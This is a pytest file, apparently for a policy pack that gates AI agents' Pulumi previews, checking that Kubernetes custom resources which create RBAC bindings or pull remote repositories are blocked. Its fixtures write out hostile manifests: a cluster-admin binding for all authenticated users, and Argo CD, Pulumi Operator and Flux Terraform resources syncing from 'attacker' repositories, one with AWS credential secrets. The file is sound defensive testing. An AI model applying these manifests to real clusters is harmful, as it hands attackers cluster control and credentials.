"""`agentid preview` end to end on red13 r13-16: Kubernetes custom resources whose controller creates RBAC objects,
applies a remote repository or runs infrastructure code passed the gate (exit 0) as single CustomResources. Each
red13 program now blocks with AGID-K8S-016; the look-alike (a Kyverno policy that generates a NetworkPolicy, a kro
graph of a NetworkPolicy) passes."""

from __future__ import annotations

from pathlib import Path

import pytest

from .conftest import AGENT_GUARD, run_cli

pytestmark = pytest.mark.skipif(not (AGENT_GUARD / "PulumiPolicy.yaml").is_file(), reason="agent_guard pack not present")

HEAD = "import pulumi_kubernetes as k8s\nCR = k8s.apiextensions.CustomResource\n"
KYVERNO = HEAD + """CR("p", api_version="kyverno.io/v1", kind="ClusterPolicy", metadata={"name": "gen"}, spec={"rules": [{
    "name": "r", "match": {"any": [{"resources": {"kinds": ["Namespace"]}}]},
    "generate": {"apiVersion": "%s", "kind": "%s", "name": "pwn", "synchronize": True, "data": %s}}]})
"""
CRB_DATA = ('{"roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}, '
            '"subjects": [{"kind": "Group", "name": "system:authenticated"}]}')
ARGO = HEAD + """CR("a", api_version="argoproj.io/v1alpha1", kind="Application", metadata={"name": "evil", "namespace": "argocd"},
   spec={"project": "default", "source": {"repoURL": "https://github.com/attacker/manifests", "path": ".",
   "targetRevision": "HEAD"}, "destination": {"server": "https://kubernetes.default.svc", "namespace": "kube-system"},
   "syncPolicy": {"automated": {}}})
"""
KRO = HEAD + """CR("r", api_version="kro.run/v1alpha1", kind="ResourceGraphDefinition", metadata={"name": "r"},
   spec={"schema": {"apiVersion": "v1alpha1", "kind": "X", "spec": {}}, "resources": [{"id": "o", "template": %s}]})
"""
CRB = ('{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "pwn"}, '
       '"roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}, '
       '"subjects": [{"kind": "Group", "name": "system:authenticated"}]}')
PULUMI_OP = HEAD + """CR("s", api_version="pulumi.com/v1", kind="Stack", metadata={"name": "infra", "namespace": "pulumi-operator"},
   spec={"projectRepo": "https://github.com/attacker/infra", "branch": "main", "stack": "org/infra/prod",
   "serviceAccountName": "pulumi-admin",
   "envRefs": {"AWS_ACCESS_KEY_ID": {"type": "Secret", "secret": {"name": "aws-creds", "key": "id"}}}})
"""
TF = HEAD + """CR("t", api_version="infra.contrib.fluxcd.io/v1alpha2", kind="Terraform", metadata={"name": "iam", "namespace": "flux-system"},
   spec={"path": "./", "sourceRef": {"kind": "GitRepository", "name": "evil"}, "approvePlan": "auto",
   "runnerPodTemplate": {"spec": {"serviceAccountName": "tf-admin"}}})
"""


def preview(tmp_path: Path, program: str):
    (tmp_path / "Pulumi.yaml").write_text("name: r13k8s\nruntime: python\n")
    (tmp_path / "Pulumi.t.yaml").write_text("config: {}\n")
    (tmp_path / "__main__.py").write_text(program)
    result = run_cli(tmp_path, "--stack", "t", "--strict-unknowns", "--policy-pack", str(AGENT_GUARD))
    return result, " ".join((result.stdout + result.stderr).split())  # table columns: one space


@pytest.mark.parametrize("program,line", [
    (KYVERNO % ("rbac.authorization.k8s.io/v1", "ClusterRoleBinding", CRB_DATA),
     "MANDATORY critical AGID-K8S-016 p (kubernetes:kyverno.io/v1:ClusterPolicy)"),
    (ARGO, "MANDATORY critical AGID-K8S-016 a (kubernetes:argoproj.io/v1alpha1:Application)"),
    (KRO % CRB, "MANDATORY critical AGID-K8S-016 r (kubernetes:kro.run/v1alpha1:ResourceGraphDefinition)"),
    (PULUMI_OP, "MANDATORY critical AGID-K8S-016 s (kubernetes:pulumi.com/v1:Stack)"),
    (TF, "MANDATORY critical AGID-K8S-016 t (kubernetes:infra.contrib.fluxcd.io/v1alpha2:Terraform)"),
], ids=["kyverno-generate", "argocd-app", "kro-rgd", "pulumi-operator", "tf-controller"])
def test_red13_generators_block(tmp_path, program, line):
    result, output = preview(tmp_path, program)
    assert result.code == 1, output
    assert line in output


@pytest.mark.parametrize("program", [
    KYVERNO % ("networking.k8s.io/v1", "NetworkPolicy", '{"spec": {"podSelector": {}, "policyTypes": ["Ingress"]}}'),
    KRO % '{"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": "d"}, "spec": {"podSelector": {}}}',
], ids=["kyverno-networkpolicy", "kro-networkpolicy"])
def test_generators_of_reviewed_kinds_pass(tmp_path, program):
    result, output = preview(tmp_path, program)
    assert result.code == 0, output
    assert "AGID-K8S-016" not in output


def test_an_unreviewed_custom_resource_blocks_a_reviewed_one_passes(tmp_path):
    """red13's kro instance (`kro.run/v1alpha1 X`): a kind no rule judges is AGID-K8S-017's (mandatory, as an unknown
    package's resource is AGID-GEN-002's); the kit's own ClusterSPIFFEID is reviewed and passes."""
    result, output = preview(tmp_path, HEAD + 'CR("x", api_version="kro.run/v1alpha1", kind="X", metadata={"name": "x"}, spec={})\n')
    assert result.code == 1, output
    assert "MANDATORY high AGID-K8S-017 x (kubernetes:kro.run/v1alpha1:X)" in output
    result, output = preview(tmp_path, HEAD + 'CR("s", api_version="spire.spiffe.io/v1alpha1", kind="ClusterSPIFFEID", '
                                              'metadata={"name": "s"}, spec={"spiffeIDTemplate": "spiffe://td/ns/a"})\n')
    assert result.code == 0, output
    assert "AGID-K8S-017" not in output
